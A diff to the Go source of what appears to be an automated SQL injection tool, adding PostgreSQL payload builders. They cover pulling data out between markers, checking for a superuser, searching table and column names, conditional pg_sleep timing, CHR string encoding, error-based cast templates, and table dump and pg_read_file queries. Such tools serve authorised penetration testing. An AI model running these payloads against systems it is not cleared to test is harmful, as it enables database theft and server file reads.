@@ -43,6 +43,18 @@ func (p *PostgreSQL) Char(code int) string {
 	return fmt.Sprintf("CHR(%d)", code)
 }
 
+// WrapWithMarkers returns chr(126)||(query)||chr(126).
+func (p *PostgreSQL) WrapWithMarkers(query string) string {
+	return fmt.Sprintf("chr(126)||(%s)||chr(126)", query)
+}
+
+// WrapRowsWithMarkers aggregates the rows, cast to text, with string_agg,
+// which skips NULLs.
+func (p *PostgreSQL) WrapRowsWithMarkers(column, from string) string {
+	return fmt.Sprintf("chr(126)||(SELECT COUNT(%s) FROM %s)||chr(126)||(SELECT COALESCE(string_agg((%s)::text||chr(126),''),'') FROM %s)",
+		column, from, column, from)
+}
+
 // --- Version and identity ---
 
 // VersionQuery returns the PostgreSQL expression to retrieve the server version.
@@ -65,6 +77,11 @@ func (p *PostgreSQL) HostnameQuery() string {
 	return "inet_server_addr()"
 }
 
+// IsDBAQuery returns the PostgreSQL expression that is "on" for a superuser.
+func (p *PostgreSQL) IsDBAQuery() string {
+	return "current_setting('is_superuser')"
+}
+
 // --- Enumeration queries ---
 
 // ListDatabasesQuery returns a SQL query to list all databases.
@@ -74,42 +91,71 @@ func (p *PostgreSQL) ListDatabasesQuery() string {
 
 // ListTablesQuery returns a SQL query to list all tables in the given database.
 func (p *PostgreSQL) ListTablesQuery(database string) string {
-	return fmt.Sprintf("SELECT table_name FROM information_schema.tables WHERE table_schema='public' AND table_catalog='%s'", database)
+	return "SELECT table_name FROM information_schema.tables WHERE table_schema='public' AND table_catalog=" + p.QuoteString(database)
 }
 
 // ListColumnsQuery returns a SQL query to list all columns in the given table.
 func (p *PostgreSQL) ListColumnsQuery(database, table string) string {
-	return fmt.Sprintf("SELECT column_name FROM information_schema.columns WHERE table_catalog='%s' AND table_name='%s'", database, table)
+	return fmt.Sprintf("SELECT column_name FROM information_schema.columns WHERE table_catalog=%s AND table_name=%s",
+		p.QuoteString(database), p.QuoteString(table))
+}
+
+// SearchTablesQuery returns a SQL query to list the public tables whose
+// names contain keyword, in the current database as the other queries.
+func (p *PostgreSQL) SearchTablesQuery(keyword string) string {
+	return "SELECT table_catalog||'.'||table_name FROM information_schema.tables WHERE table_schema='public' AND LOWER(table_name) LIKE " +
+		containsPattern(p, keyword)
+}
+
+// SearchColumnsQuery returns a SQL query to list the columns of public
+// tables whose names contain keyword.
+func (p *PostgreSQL) SearchColumnsQuery(keyword string) string {
+	return "SELECT table_catalog||'.'||table_name||'.'||column_name FROM information_schema.columns WHERE table_schema='public' AND LOWER(column_name) LIKE " +
+		containsPattern(p, keyword)
 }
 
 // CountRowsQuery returns a SQL query to count rows in the given table.
 // PostgreSQL operates within the current database context, so the database
 // parameter is not used in the FROM clause.
 func (p *PostgreSQL) CountRowsQuery(database, table string) string {
-	return fmt.Sprintf("SELECT COUNT(*) FROM %s", table)
+	return "SELECT COUNT(*) FROM " + p.QualifyTable(database, table)
+}
+
+// QualifyTable returns "table": a query cannot reach another database.
+func (p *PostgreSQL) QualifyTable(_, table string) string {
+	return p.QuoteIdentifier(table)
 }
 
 // DumpQuery returns a SQL query to dump rows from the given table.
 // PostgreSQL operates within the current database context.
 func (p *PostgreSQL) DumpQuery(database, table string, columns []string, offset, limit int) string {
-	return fmt.Sprintf("SELECT %s FROM %s LIMIT %d OFFSET %d",
-		strings.Join(columns, ","), table, limit, offset)
+	return p.LimitOffset(fmt.Sprintf("SELECT %s FROM %s",
+		strings.Join(columns, ","), p.QualifyTable(database, table)), offset, limit)
+}
+
+// LimitOffset appends a LIMIT ... OFFSET clause to query.
+func (p *PostgreSQL) LimitOffset(query string, offset, limit int) string {
+	return fmt.Sprintf("%s LIMIT %d OFFSET %d", query, limit, offset)
 }
 
+// SelectRow pages with LimitOffset.
+func (p *PostgreSQL) SelectRow(column, from string, row int) string {
+	return p.LimitOffset(fmt.Sprintf("SELECT %s FROM %s", column, from), row, 1)
+}
+
+// DualTable returns "": PostgreSQL needs no FROM clause.
+func (p *PostgreSQL) DualTable() string { return "" }
+
 // --- Error-based payloads ---
 
 // ErrorPayloads returns PostgreSQL-specific error-based injection payload templates.
 func (p *PostgreSQL) ErrorPayloads() []PayloadTemplate {
-	return []PayloadTemplate{
-		{
-			Name:     "cast",
-			Template: "CAST(({{.Query}}) AS INT)",
-			Columns:  1,
-			DBMS:     "PostgreSQL",
-		},
-	}
+	return errorPayloadsFor("PostgreSQL")
 }
 
+// ErrorChunkSize returns 0: PostgreSQL cast errors quote the whole value.
+func (p *PostgreSQL) ErrorChunkSize() int { return 0 }
+
 // --- Time-based ---
 
 // SleepFunction returns a PostgreSQL pg_sleep(n) expression.
@@ -122,6 +168,12 @@ func (p *PostgreSQL) HeavyQuery() string {
 	return "SELECT COUNT(*) FROM generate_series(1,5000000)"
 }
 
+// SleepIf calls pg_sleep, which returns void, inside a scalar subquery:
+// 1=(CASE WHEN (condition) THEN (SELECT 1 FROM PG_SLEEP(n)) ELSE 1 END).
+func (p *PostgreSQL) SleepIf(condition string, seconds int) string {
+	return fmt.Sprintf("1=(CASE WHEN (%s) THEN (SELECT 1 FROM PG_SLEEP(%d)) ELSE 1 END)", condition, seconds)
+}
+
 // --- Boolean constructs ---
 
 // IfThenElse returns a PostgreSQL CASE WHEN ... THEN ... ELSE ... END expression.
@@ -137,6 +189,25 @@ func (p *PostgreSQL) QuoteString(s string) string {
 	return fmt.Sprintf("'%s'", escaped)
 }
 
+// QuoteIdentifier wraps the name in double quotes, doubling embedded double
+// quotes. Quoted names are case-sensitive, so pass them as enumerated.
+func (p *PostgreSQL) QuoteIdentifier(name string) string {
+	return `"` + strings.ReplaceAll(name, `"`, `""`) + `"`
+}
+
+// HexString returns CharEncode(s): PostgreSQL's hex literals are quoted.
+func (p *PostgreSQL) HexString(s string) string {
+	return p.CharEncode(s)
+}
+
+// CharEncode returns s as CHR(c1)||CHR(c2)||... of its characters.
+func (p *PostgreSQL) CharEncode(s string) string {
+	if s == "" {
+		return p.QuoteString(s)
+	}
+	return charCodes(s, "||", func(r rune) string { return p.Char(int(r)) })
+}
+
 // CommentSequence returns the PostgreSQL line comment sequence.
 func (p *PostgreSQL) CommentSequence() string {
 	return "-- "
@@ -151,7 +222,7 @@ func (p *PostgreSQL) InlineComment() string {
 
 // FileReadQuery returns a PostgreSQL expression to read a file from the server.
 func (p *PostgreSQL) FileReadQuery(path string) string {
-	return fmt.Sprintf("pg_read_file('%s')", path)
+	return "pg_read_file(" + p.QuoteString(path) + ")"
 }
 
 // --- Capabilities ---